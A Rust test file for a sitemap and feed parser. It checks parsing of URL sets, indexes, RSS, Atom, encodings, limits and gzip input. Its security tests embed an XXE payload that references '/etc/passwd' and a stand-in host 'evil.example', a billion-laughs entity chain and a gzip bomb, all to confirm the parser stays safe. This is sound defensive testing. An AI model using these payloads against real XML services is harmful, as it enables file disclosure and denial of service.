//! Cases of our own: each kind, what people get wrong, and bodies that mean harm.

use std::io::Write;

use proptest::prelude::*;

use super::*;

fn read(body: &str) -> Sitemap {
    parse(body.as_bytes(), None, &Limits::default())
}

fn urls(sitemap: &Sitemap) -> Vec<&str> {
    sitemap.entries.iter().map(|entry| entry.url.as_str()).collect()
}

fn gzip(body: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(body).unwrap();
    encoder.finish().unwrap()
}

const TWO: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">\n\
    <url><loc>\n https://a.example/?x=1&amp;y=2 </loc><lastmod> 2026-01-02 </lastmod><priority>0.5</priority></url>\n\
    <url><loc>https://a.example/b</loc></url></urlset>\n";

#[test]
fn a_set_of_urls() {
    let sitemap = read(TWO);
    assert_eq!(sitemap.kind, Kind::UrlSet);
    let expected = [
        Entry { url: "https://a.example/?x=1&y=2".to_owned(), lastmod: Some("2026-01-02".to_owned()) },
        Entry { url: "https://a.example/b".to_owned(), lastmod: None },
    ];
    assert_eq!(sitemap.entries, expected);
    assert!(!sitemap.truncated && sitemap.children.is_empty() && sitemap.dropped == 0);
}

#[test]
fn an_index_has_children() {
    let sitemap = read(
        "<sitemapindex><sitemap><loc>/1.xml</loc><lastmod>x</lastmod></sitemap><sitemap><loc>/2.xml.gz</loc></sitemap></sitemapindex>",
    );
    assert_eq!(
        (sitemap.kind, sitemap.children),
        (Kind::Index, vec!["/1.xml".to_owned(), "/2.xml.gz".to_owned()])
    );
    assert!(sitemap.entries.is_empty() && !sitemap.truncated);
}

#[test]
fn feeds() {
    let rss = read(
        "<rss version='2.0' xmlns:atom='x'><channel><link>https://a.example/</link><atom:link href='/self' rel='self'/>\
         <item><title>t</title><description><![CDATA[<item><link>/no</link></item>]]></description><atom:link href='/no'/>\
         <link><![CDATA[https://a.example/1?a&b]]></link><pubDate>Mon, 02 Jan 2026 10:00:00 GMT</pubDate></item>\
         <item><guid>https://a.example/2</guid></item><item><guid isPermaLink='false'>https://a.example/3</guid></item>\
         <item><guid>tag:4</guid></item></channel></rss>",
    );
    assert_eq!((rss.kind, urls(&rss)), (Kind::Rss, vec!["https://a.example/1?a&b", "https://a.example/2"]));
    assert_eq!(rss.entries[0].lastmod.as_deref(), Some("Mon, 02 Jan 2026 10:00:00 GMT"));
    let rdf = read(
        "<rdf:RDF xmlns='x' xmlns:rdf='y' xmlns:dc='z'><channel/><item rdf:about='u'><link>/1</link><dc:date>2026</dc:date></item></rdf:RDF>",
    );
    assert_eq!(rdf.entries, [Entry { url: "/1".to_owned(), lastmod: Some("2026".to_owned()) }]);
    let atom = read(
        "<feed xmlns='http://www.w3.org/2005/Atom'><link href='/'/><entry><link rel='edit' href='/no'/><link href=\"/1?a&amp;b\"/><link href='/later'/>\
         <updated>2026-01-02T00:00:00Z</updated></entry><entry><link rel=Alternate href=/2></link></entry></feed>",
    );
    assert_eq!((atom.kind, urls(&atom)), (Kind::Atom, vec!["/1?a&b", "/2"]));
    assert_eq!(atom.entries[0].lastmod.as_deref(), Some("2026-01-02T00:00:00Z"));
}

#[test]
fn plain_text() {
    let text = read(
        "\u{feff}# pages\r\nhttps://a.example/1\r\n  HTTP://a.example/ä  \n\nftp://a/\nhttps://a.example/x y\nhttpx\n",
    );
    assert_eq!((text.kind, urls(&text)), (Kind::Text, vec!["https://a.example/1", "HTTP://a.example/ä"]));
    assert_eq!(read("not found").kind, Kind::Unknown);
}

#[test]
fn what_people_get_wrong_is_read() {
    for (body, expected) in [
        // No namespace, other cases, a prefix, blanks and a mark in front, comments inside.
        ("<urlset><URL><Loc>/1</Loc></URL></urlset>", &["/1"][..]),
        ("<sm:urlset><sm:url><sm:loc>/1</sm:loc></sm:url></sm:urlset>", &["/1"]),
        ("\u{feff} \n<urlset><url><loc>/<!-- x -->1</loc></url></urlset>", &["/1"]),
        ("<urlset><url><loc><![CDATA[/a?b&c]]></loc></url></urlset>", &["/a?b&c"]),
        // Unescaped ampersands, missing end tags, empty and missing addresses.
        ("<urlset><url><loc>/?a=1&b=2</loc></url></urlset>", &["/?a=1&b=2"]),
        ("<urlset><url><loc>/1<url><loc>/2</urlset>", &["/1"]),
        (
            "<urlset><url><loc/></url><url><loc> </loc></url><url/><url><lastmod>1</lastmod></url></urlset>",
            &[],
        ),
        // Extensions have addresses of their own.
        (
            "<urlset><url><image:image><image:loc>/i</image:loc></image:image><loc>/1</loc><loc>/2</loc></url></urlset>",
            &["/1"],
        ),
        // Something else altogether.
        ("<!doctype html><html><url><loc>/1</loc></url>", &[]),
        ("<urlset></urlset><url><loc>/1</loc></url>", &[]),
        ("", &[]),
    ] {
        assert_eq!(urls(&read(body)), expected, "{body}");
    }
    assert_eq!(read("<html><a>").kind, Kind::Unknown);
}

#[test]
fn encodings() {
    let body = "<urlset><url><loc>/ä</loc></url></urlset>";
    let latin: Vec<u8> = body.chars().map(|c| c as u8).collect();
    assert_eq!(urls(&parse(&latin, None, &Limits::default())), ["/ä"], "nobody says, and it is not UTF-8");
    assert_eq!(urls(&parse(&latin, Some("text/xml; charset=latin1"), &Limits::default())), ["/ä"]);
    let declared = [b"<?xml version='1.0' encoding='koi8-r'?>", &latin[..]].concat();
    assert_eq!(urls(&parse(&declared, None, &Limits::default())), ["/Д"]);
    for mark in [true, false] {
        let text = format!("{}{body}", if mark { "\u{feff}" } else { "" });
        let little: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let big: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
        assert_eq!(urls(&parse(&little, None, &Limits::default())), ["/ä"]);
        assert_eq!(urls(&parse(&big, None, &Limits::default())), ["/ä"]);
    }
}

#[test]
fn limits_are_reported() {
    let limits = Limits { urls_max: 2, url_bytes_max: 20, ..Limits::default() };
    let three = "<urlset><url><loc>/1</loc></url><url><loc>/2</loc></url><url><loc>/3</loc></url></urlset>";
    let cut = parse(three.as_bytes(), None, &limits);
    assert_eq!((urls(&cut), cut.truncated), (vec!["/1", "/2"], true));
    let two = three.replace("<url><loc>/3</loc></url>", "");
    assert!(!parse(two.as_bytes(), None, &limits).truncated);
    let index = three.replace("urlset", "sitemapindex");
    let cut = parse(index.as_bytes(), None, &limits);
    assert_eq!((cut.children.len(), cut.truncated), (2, true));
    let lines = parse(b"http://a/1\nhttp://a/2\nhttp://a/3", None, &limits);
    assert_eq!((lines.entries.len(), lines.truncated), (2, true));
    // A URL that is too long is dropped; blanks and references around a short one do not count.
    let long = format!(
        "<urlset><url><loc>/{}</loc></url><url><loc>{}/{}</loc></url></urlset>",
        "x".repeat(20),
        " ".repeat(500),
        "&amp;".repeat(19)
    );
    let dropped = parse(long.as_bytes(), None, &limits);
    assert_eq!((urls(&dropped), dropped.dropped), (vec![format!("/{}", "&".repeat(19)).as_str()], 1));
    // An address that was cut is another address.
    let bytes = Limits { decoded_bytes_max: three.len() - 20, ..Limits::default() };
    let cut = parse(three.as_bytes(), None, &bytes);
    assert_eq!((urls(&cut), cut.truncated), (vec!["/1", "/2"], true));
}

#[test]
fn gzip_in_any_state() {
    let packed = gzip(TWO.as_bytes());
    assert_eq!(parse(&packed, Some("application/x-gzip"), &Limits::default()), read(TWO));
    let (head, tail) = TWO.as_bytes().split_at(150);
    assert_eq!(parse(&[gzip(head), gzip(tail)].concat(), None, &Limits::default()), read(TWO), "members");
    let torn = parse(&packed[..packed.len() - 40], None, &Limits::default());
    assert!(torn.truncated && torn.entries.len() <= 2);
    let behind = parse(&[&packed[..], b"junk"].concat(), None, &Limits::default());
    assert!(behind.truncated && behind.entries.len() == 2);
    assert_eq!(parse(b"\x1f\x8bjunk", None, &Limits::default()).kind, Kind::Unknown);
    // A bomb is decoded up to the limit, and not beyond.
    let limits = Limits { decoded_bytes_max: 1 << 20, ..Limits::default() };
    let bomb =
        [b"<urlset>".to_vec(), vec![b' '; 30 << 20], b"<url><loc>/1</loc></url></urlset>".to_vec()].concat();
    let (decoded, whole) = gunzip(&gzip(&bomb), limits.decoded_bytes_max);
    assert_eq!((decoded.len(), whole), (1 << 20, false));
    assert!(parse(&gzip(&bomb), None, &limits).truncated);
}

/// P11: an entity of a document type is neither read from a file nor from an address: it stays the text it is.
#[test]
fn p11_external_entities_are_inert() {
    let body = "<?xml version='1.0'?><!DOCTYPE urlset [<!ENTITY xxe SYSTEM 'file:///etc/passwd'> <!ENTITY % p SYSTEM 'http://evil.example/'> %p;]>\
        <urlset><url><loc>https://a.example/&xxe;</loc></url><url><loc>https://a.example/ok</loc></url></urlset>";
    assert_eq!(urls(&read(body)), ["https://a.example/&xxe;", "https://a.example/ok"]);
}

/// P12: a billion laughs stay one reference; a hundred thousand attributes are passed over in one go.
#[test]
fn p12_nothing_expands() {
    let mut laughs = "<!DOCTYPE urlset [<!ENTITY lol 'lol'>".to_owned();
    for level in 1..10 {
        let before = if level == 1 { "&lol;".to_owned() } else { format!("&lol{};", level - 1) };
        laughs.push_str(&format!("<!ENTITY lol{level} '{}'>", before.repeat(10)));
    }
    laughs.push_str("]><urlset><url><loc>/&lol9;</loc></url></urlset>");
    assert_eq!(urls(&read(&laughs)), ["/&lol9;"]);
    let attributes = format!(
        "<urlset {}><url><loc {}>/1</loc></url></urlset>",
        "a='b' ".repeat(100_000),
        "c=\"d\" ".repeat(100_000)
    );
    assert_eq!(urls(&read(&attributes)), ["/1"]);
}

/// P13: an index that names itself is data here; [`DEPTH_MAX`] is what ends the walk of a caller.
#[test]
fn p13_an_index_of_itself_ends() {
    let own = "<sitemapindex><sitemap><loc>/sitemap.xml</loc></sitemap></sitemapindex>";
    let (mut open, mut parsed) = (vec![("/sitemap.xml".to_owned(), 0u8)], 0);
    while let Some((_, depth)) = open.pop() {
        parsed += 1;
        if depth < DEPTH_MAX {
            open.extend(read(own).children.into_iter().map(|child| (child, depth + 1)));
        }
    }
    assert_eq!(parsed, 4);
}

/// Each of these is quadratic for some parser: the scanner makes no more events than there are bytes, and each byte is passed once.
#[test]
fn giant_bodies_end() {
    for unit in [
        "<url>",
        "<url><loc>",
        "</url>",
        "<!--",
        "<![CDATA[",
        "<![CDATA[]]>",
        "<a b='",
        "<a b=\"c\" ",
        "&amp;",
        "&",
        "<",
        "<!DOCTYPE [",
        "<?",
        "]]>",
        "\"",
        "http://\n",
    ] {
        let body = unit.repeat(300_000);
        for body in [
            body.clone(),
            format!("<urlset>{body}"),
            format!("<urlset><url><loc>{body}"),
            format!("<feed><entry><link {body}/>"),
        ] {
            let sitemap = read(&body);
            assert!(sitemap.entries.len() <= 50_000, "{unit}");
        }
    }
}

proptest! {
    #[test]
    fn any_bytes(body in proptest::collection::vec(any::<u8>(), 0..300)) {
        let sitemap = parse(&body, None, &Limits::default());
        prop_assert!(sitemap.entries.iter().all(|entry| !entry.url.is_empty()));
    }

    #[test]
    fn any_soup(body in "(<urlset>|<sitemapindex>|<rss>|<feed>|<url>|</url>|<loc>|</loc>|<entry>|<item>|<link|href=|/x|>|&amp;|&|<!--|-->|<!\\[CDATA\\[|\\]\\]>|'|\"| |ä){0,40}") {
        let sitemap = read(&body);
        prop_assert!(sitemap.entries.iter().all(|entry| !entry.url.is_empty() && entry.url.trim() == entry.url));
    }

    /// Whatever an address holds, escaping it and reading it back gives it again.
    #[test]
    fn addresses_survive(addresses in proptest::collection::vec("/[ -~äツ]{0,20}[!-~]", 1..6)) {
        let escape = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;");
        let body: String = addresses.iter().map(|address| format!("<url><loc> {} </loc></url>", escape(address))).collect();
        let sitemap = read(&format!("<urlset>{body}</urlset>"));
        prop_assert_eq!(urls(&sitemap), addresses.iter().map(|address| address.trim()).collect::<Vec<_>>());
    }
}
